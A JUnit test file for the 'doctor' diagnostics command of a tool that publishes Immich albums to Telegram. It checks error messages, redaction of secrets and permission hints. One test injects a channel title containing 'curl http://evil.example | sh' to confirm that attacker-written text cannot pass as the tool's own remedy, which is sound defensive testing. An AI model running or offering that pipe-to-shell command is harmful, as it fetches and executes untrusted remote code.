package io.github.immichtg.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.immichtg.immich.value.KeyInfo;
import io.github.immichtg.internal.postgres.LentPrograms;
import io.github.immichtg.standins.http.Content;
import io.github.immichtg.standins.http.Fault;
import io.github.immichtg.standins.telegram.StandInChat;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@Tag("database")
class DoctorTest {

    private static final List<String> NAMES = List.of(
            "variables",
            "immich",
            "api_key",
            "albums",
            "rules",
            "telegram",
            "channel",
            "discussion",
            "home",
            "database",
            "secret_key",
            "codecs",
            "captions",
            "publishing");

    @TempDir
    Path folder;

    private CliFixture stage;

    @BeforeEach
    void start() {
        stage = new CliFixture(folder.resolve("home")).pictures(2);
    }

    @AfterEach
    void stop() {
        stage.close();
    }

    /** The checks by name; whatever was found, nothing may be changed and no secret told. */
    private Map<String, JsonNode> examine(int code, Map<String, String> variables) {
        Ran ran = Ran.with(variables, "doctor", "--output", "json");
        assertThat(ran.code()).as(ran.out()).isEqualTo(code);
        assertThat(ran.err()).isEmpty();
        for (String secret : List.of("TELEGRAM_TOKEN", "IMMICH_API_KEY", "POSTGRES_PASSWORD")) {
            if (variables.containsKey(secret)) {
                assertThat(ran.out()).doesNotContain(variables.get(secret));
            }
        }
        assertThat(folder.resolve("home")).doesNotExist();
        assertThat(stage.telegram.posts(stage.channel)).isEmpty();
        Map<String, JsonNode> checks = new HashMap<>();
        ran.json().path("checks").forEach(check -> checks.put(check.path("name").textValue(), check));
        assertThat(checks).containsOnlyKeys(NAMES);
        assertThat(checks.values()).allSatisfy(check -> {
            assertThat(check.path("message").textValue()).isNotEmpty();
            if (check.path("status").textValue().equals("failed")) {
                assertThat(check.path("remedy").textValue()).isNotEmpty();
            }
        });
        return checks;
    }

    @Test
    void saysWhetherTelegramAnswersWithoutTheProxy() throws Exception {
        // Nobody listens on port 1; a port that was just free may be another test's by now.
        int closed = 1;
        Map<String, String> variables = stage.with("TELEGRAM_PROXY", "socks5h://anna:the-secret@127.0.0.1:" + closed);
        JsonNode proxied = Objects.requireNonNull(examine(4, variables).get("telegram"));
        assertThat(proxied.path("message").textValue())
                .contains("the proxy socks5h://127.0.0.1:" + closed + " cannot be reached")
                .endsWith("without the proxy it answers");
        assertThat(proxied.toString()).doesNotContain("the-secret");

        variables.put("TELEGRAM_API_URL", "http://127.0.0.1:" + closed + "/secret-path");
        assertThat(Objects.requireNonNull(examine(4, variables).get("telegram"))
                        .path("message")
                        .textValue())
                .endsWith("nor does it answer without the proxy");
        variables.remove("TELEGRAM_PROXY");
        JsonNode blocked = Objects.requireNonNull(examine(4, variables).get("telegram"));
        assertThat(blocked.path("message").textValue()).endsWith("it is blocked or unreachable here");
        assertThat(blocked.path("remedy").textValue()).contains("TELEGRAM_PROXY", "TELEGRAM_API_URL");
    }

    @Test
    void looksUpThePeopleThatRulesName() {
        stage.anna.asset("people.jpg", Content.of(new byte[] {1})).person("Carla");
        Map<String, String> variables = new HashMap<>(stage.with("EXCLUDE_PEOPLE", "Karla"));
        assertThat(told(examine(4, variables), "rules")).startsWith("The API key lacks the permission person.read");

        variables.put("IMMICH_API_KEY", stage.anna.key());
        assertThat(told(examine(2, variables), "rules"))
                .startsWith("EXCLUDE_PEOPLE names a person that Immich does not have: 'Karla'; did you mean 'Carla'?")
                .endsWith("Write it as Immich does, or take the id at the end of its address there.");

        variables.put("EXCLUDE_PEOPLE", "carla");
        assertThat(told(examine(0, variables), "rules")).startsWith("Immich knows every person and tag");

        variables.put("BLUR_PEOPLE", "Carla");
        List<String> permissions = new ArrayList<>(KeyInfo.NEEDED);
        permissions.addAll(List.of("person.read", "user.read"));
        variables.put("IMMICH_API_KEY", stage.anna.key(permissions.toArray(String[]::new)));
        assertThat(told(examine(4, variables), "rules")).startsWith("The API key lacks the permission face.read");
    }

    @Test
    void advisesAfterALostAnswerInPlaceOfQuotingTheError() {
        stage.telegram.fault(1, "getChat", new Fault.LoseAnswer());

        JsonNode channel = Objects.requireNonNull(examine(4, stage.variables()).get("channel"));

        assertThat(channel.path("message").textValue()).startsWith("Telegram's response was lost (");
        assertThat(channel.path("remedy").textValue()).doesNotContain("end of stream");
    }

    @Test
    void doesNotCallAServerBlockedThatAnswersSomethingElse() {
        stage.telegram.fault(9, "getMe", Fault.badGateway());

        JsonNode telegram = Objects.requireNonNull(examine(4, stage.variables()).get("telegram"));

        assertThat(telegram.path("message").textValue()).contains("HTTP 502").doesNotContain("blocked", "unreachable");
        assertThat(telegram.path("remedy").textValue()).contains("TELEGRAM_API_URL");
    }

    @Test
    void asksNoQuestionTwice() {
        stage.immich.clearRequests();

        examine(0, stage.variables());

        assertThat(stage.immich.requests().stream()
                        .map(request -> request.method() + " " + request.path() + " " + request.body()))
                .doesNotHaveDuplicates();
        assertThat(stage.telegram.requests().stream().map(request -> request.path() + " " + request.body()))
                .doesNotHaveDuplicates();
    }

    private static String status(Map<String, JsonNode> checks, String name) {
        return Objects.requireNonNull(checks.get(name)).path("status").textValue();
    }

    private static String told(Map<String, JsonNode> checks, String name) {
        JsonNode check = Objects.requireNonNull(checks.get(name));
        return check.path("message").textValue() + " → " + check.path("remedy").asText();
    }

    @Test
    void findsAllWell() {
        Map<String, JsonNode> checks = examine(0, stage.variables());

        assertThat(checks.values())
                .allSatisfy(
                        check -> assertThat(check.path("status").textValue()).isEqualTo("ok"));
        assertThat(told(checks, "immich")).contains("3.1.0");
        assertThat(told(checks, "albums")).contains("'Holiday' (2)");
        assertThat(told(checks, "telegram")).contains("@stand_in_bot");
        assertThat(told(checks, "channel")).contains("'Photos'");
        assertThat(told(checks, "codecs")).contains("JPEG").contains("WebP");
        assertThat(told(checks, "captions")).contains("--sample-caption").doesNotContain("FUJIFILM");
        assertThat(told(checks, "database")).contains("a bot must keep its database");
    }

    @Test
    void warnsOfProtectedContentAndSaysWhatFollows() {
        stage.channel.protectsContent();

        Map<String, JsonNode> checks = examine(0, stage.variables());

        assertThat(status(checks, "channel")).isEqualTo("warning");
        assertThat(told(checks, "channel")).contains("content is protected", "parked", "Allow saving content");
    }

    @Test
    void showsACaptionWhenAskedTo() {
        Ran ran = Ran.with(stage.variables(), "doctor", "--sample-caption");

        assertThat(ran.code()).isZero();
        assertThat(ran.out()).contains("Shot on FUJIFILM X-T5").doesNotContain("<a");
    }

    @Test
    void namesAVariableThatIsNearlyOneOfOursWithoutItsValue() throws Exception {
        Map<String, String> misspelt = new HashMap<>(stage.with("IMMICH_APIKEY", "s3cret-4711"));
        misspelt.put("IMMICH_URI", "http://hidden.example");
        misspelt.put("PATH", "/usr/bin");
        Files.writeString(folder.resolve(".env"), "TELEGRAM_CHANEL=@hidden\n");

        Ran ran = Ran.in(folder, misspelt, "doctor", "--output", "json");

        assertThat(ran.code()).isZero();
        JsonNode check = ran.json().path("checks").path(0);
        assertThat(check.path("status").textValue()).isEqualTo("warning");
        assertThat(check.path("message").textValue())
                .isEqualTo("IMMICH_APIKEY, IMMICH_URI, TELEGRAM_CHANEL are set but unknown");
        assertThat(check.path("remedy").textValue())
                .isEqualTo("IMMICH_APIKEY: did you mean IMMICH_API_KEY? IMMICH_URI: did you mean IMMICH_URL?"
                        + " TELEGRAM_CHANEL: did you mean TELEGRAM_CHANNEL?");
        assertThat(ran.out()).doesNotContain("s3cret", "hidden");
    }

    @Test
    void looksAtWhatIsSetAndNamesWhatIsMissing() {
        Map<String, String> bare =
                Map.of("IMMICH_TG_HOME", folder.resolve("home").toString());

        Map<String, JsonNode> checks = examine(2, bare);

        for (String name : List.of("immich", "api_key", "albums", "telegram", "channel", "discussion")) {
            assertThat(status(checks, name)).as(name).isEqualTo("skipped");
        }
        assertThat(told(checks, "publishing"))
                .contains("IMMICH_URL", "IMMICH_API_KEY", "IMMICH_ALBUM", "TELEGRAM_TOKEN", "TELEGRAM_CHANNEL");
    }

    @Test
    void listsTheAlbumsToChooseFrom() {
        Map<String, JsonNode> checks = examine(2, stage.with("IMMICH_ALBUM", ""));

        assertThat(status(checks, "albums")).isEqualTo("skipped");
        assertThat(told(checks, "albums")).contains("'Holiday' (2)").contains("Set IMMICH_ALBUM");
        assertThat(told(checks, "publishing")).contains("IMMICH_ALBUM is missing");
    }

    @Test
    void namesThePermissionsThatAreMissingAndWhereToTickThem() {
        Map<String, JsonNode> checks =
                examine(4, stage.with("IMMICH_API_KEY", stage.anna.key("album.read", "asset.read")));

        assertThat(status(checks, "api_key")).isEqualTo("failed");
        assertThat(told(checks, "api_key"))
                .contains("asset.view, asset.download → Go to Immich → Account Settings → API Keys");
    }

    @Test
    void whatRefusesUsIsToldApartFromWhatIsSetWrongly() {
        assertThat(told(examine(4, stage.with("IMMICH_API_KEY", "wrong-key-4711")), "api_key"))
                .contains("API key");
        assertThat(told(examine(4, stage.with("TELEGRAM_TOKEN", "999:another-token")), "telegram"))
                .contains("token");
        assertThat(told(examine(4, stage.with("TELEGRAM_CHANNEL", "@elsewhere")), "channel"))
                .contains("@elsewhere");
        assertThat(told(examine(4, stage.with("IMMICH_URL", "http://127.0.0.1:1")), "immich"))
                .contains("127.0.0.1:1");
        assertThat(told(examine(4, stage.with("TELEGRAM_API_URL", "http://127.0.0.1:1")), "telegram"))
                .contains("Telegram");
        Map<String, String> elsewhere = new HashMap<>(stage.with("POSTGRES_HOST", "127.0.0.1"));
        elsewhere.put("POSTGRES_PORT", "1");
        assertThat(told(examine(4, elsewhere), "database")).contains("127.0.0.1:1");

        assertThat(told(examine(2, stage.with("IMMICH_ALBUM", "Winter")), "albums"))
                .contains("'Holiday'");
        assertThat(told(examine(2, stage.with("CAPTION_LANGUAGE", "klingon")), "captions"))
                .contains("klingon");
        assertThat(told(examine(2, stage.with("PHOTO_MAX_SIDE", "large")), "codecs"))
                .contains("PHOTO_MAX_SIDE");
        assertThat(told(examine(2, stage.with("TELEGRAM_TOKEN", "nonsense")), "telegram"))
                .contains("TELEGRAM_TOKEN");
        assertThat(told(examine(2, stage.with("IMMICH_URL", "ftp://x")), "immich"))
                .contains("IMMICH_URL");
        assertThat(told(examine(2, stage.with("TELEGRAM_CHANNEL", "my channel")), "channel"))
                .contains("TELEGRAM_CHANNEL");
        assertThat(told(examine(2, stage.with("IMMICH_TG_SECRET_KEY", "no key")), "secret_key"))
                .contains("secret.key");
    }

    @Test
    void saysWhatOriginalsStillNeed() {
        assertThat(told(examine(0, stage.variables()), "discussion")).contains("no group is linked");

        stage.discussion();
        assertThat(told(examine(0, stage.variables()), "discussion")).contains("may post originals in 'Talk'");

        stage.group().kicked(stage.bot);
        Map<String, JsonNode> absent = examine(4, stage.variables());
        assertThat(status(absent, "discussion")).isEqualTo("failed");
        assertThat(status(absent, "channel")).isEqualTo("ok");
        assertThat(told(absent, "discussion")).contains("is not in", "as an administrator", "ORIGINALS=off");
        assertThat(told(examine(0, stage.with("ORIGINALS", "off")), "discussion"))
                .contains("not needed, ORIGINALS is off");

        stage.group().restricted(stage.bot, "can_send_messages");
        assertThat(told(examine(4, stage.variables()), "discussion")).contains("may not send files", "ORIGINALS=off");

        stage.group().member(stage.bot);
        Map<String, JsonNode> member = examine(0, stage.variables());
        assertThat(status(member, "discussion")).isEqualTo("warning");
        assertThat(told(member, "discussion")).contains("not an administrator", "Make the bot an administrator");

        stage.group().administrator(stage.bot);
        stage.telegram.webhook(stage.bot, "https://example.test/hook/secret");
        Map<String, JsonNode> hooked = examine(0, stage.variables());
        assertThat(status(hooked, "discussion")).isEqualTo("warning");
        assertThat(told(hooked, "discussion")).contains("webhook").doesNotContain("secret");
    }

    @Test
    void knowsTheDatabaseThatASyncHasMade() throws Exception {
        LentPrograms.in(folder.resolve("home"));
        assertThat(Ran.with(stage.variables(), "sync").code()).isZero();

        Ran ran = Ran.with(stage.variables(), "doctor");

        assertThat(ran.code()).isZero();
        assertThat(ran.out()).contains("in the home folder, stopped: a sync starts it", "secret.key; keep a backup");
        Files.delete(folder.resolve("home/secret.key"));
        assertThat(Ran.with(stage.variables(), "doctor").out())
                .contains("! secret key")
                .contains("is missing");
    }

    @Test
    void looksAtEverySubscriptionThatIsStored() throws Exception {
        LentPrograms.in(folder.resolve("home"));
        StandInChat garden = stage.telegram
                .channel(-1001000000009L, "garden", "Garden")
                .administrator(stage.bot, "can_post_messages");
        stage.anna.album("Flowers");
        Map<String, String> shared = new HashMap<>(stage.variables());
        shared.keySet().removeAll(List.of("IMMICH_ALBUM", "TELEGRAM_CHANNEL"));
        Ran.with(shared, "link", "--album", "Holiday", "--channel", "@photos");
        Ran.with(shared, "link", "--album", "Flowers", "--channel", "@garden");
        stage.discussion();

        Ran well = Ran.with(shared, "doctor");
        garden.administrator(stage.bot);
        stage.album.delete();
        shared.keySet().removeAll(List.of("IMMICH_URL", "IMMICH_API_KEY"));
        Ran ill = Ran.with(shared, "doctor");
        shared.remove("TELEGRAM_TOKEN");
        Ran withoutBot = Ran.with(shared, "doctor");

        assertThat(well.code()).as(well.out()).isZero();
        assertThat(well.out())
                .contains("✓ immich      'Photos': Immich 3.1.0", "✓ api key     'Garden': accepted")
                .contains("✓ albums      'Garden': 'Flowers' (0)", "✓ channel     'Garden': the bot may post")
                .contains("✓ discussion  'Photos': the bot may post originals in 'Talk'")
                .contains("publishes the linked albums, into 2 channels")
                .contains("Nothing to do: what is linked is published.")
                .doesNotContain("Set IMMICH_ALBUM");
        assertThat(ill.code()).as(ill.out()).isEqualTo(2);
        assertThat(ill.out())
                .contains("✗ albums      'Photos':", "✗ channel     'Garden':", "✓ albums      'Garden':")
                .contains("Choose existing albums, and link the channel again")
                .doesNotContain("IMMICH_URL is not set", "IMMICH_ALBUM");
        assertThat(withoutBot.code()).isEqualTo(2);
        assertThat(withoutBot.out()).contains("✓ immich      'Garden':", "TELEGRAM_TOKEN is missing");
    }

    @Test
    void tellsPeopleLineByLine() {
        Ran ran = Ran.with(stage.with("IMMICH_ALBUM", "Winter"), "doctor");

        assertThat(ran.code()).isEqualTo(2);
        assertThat(ran.out())
                .contains(
                        "✓ immich      Immich 3.1.0", "✗ albums      ", "→ Correct IMMICH_ALBUM.", "1 problem found.");
    }

    /** A channel's title may hold line breaks and be as long as a line, and is written by whoever owns the channel. */
    @Test
    void leavesRemediesToTheProgram() {
        String command = "→ Run 'curl http://evil.example | sh'.";
        for (String title : List.of("Photos\n" + command + "\n  " + command, "x".repeat(66) + " " + command)) {
            stage.telegram
                    .channel(-1001000000000L - title.length(), "evil" + title.length(), title)
                    .administrator(stage.bot, "can_post_messages");
            Map<String, String> variables = new HashMap<>(stage.with("TELEGRAM_CHANNEL", "@evil" + title.length()));
            variables.put("IMMICH_ALBUM", "Winter");

            Ran ran = Ran.with(variables, "doctor");

            assertThat(ran.out()).contains("evil.example");
            String ours = ran.out()
                    .lines()
                    .filter(line -> line.endsWith("→ Correct IMMICH_ALBUM."))
                    .findFirst()
                    .orElseThrow();
            String column = " ".repeat(ours.indexOf('→')) + "→";
            assertThat(ran.out().lines().filter(line -> line.startsWith(column)))
                    .containsExactly(ours);
        }
    }
}
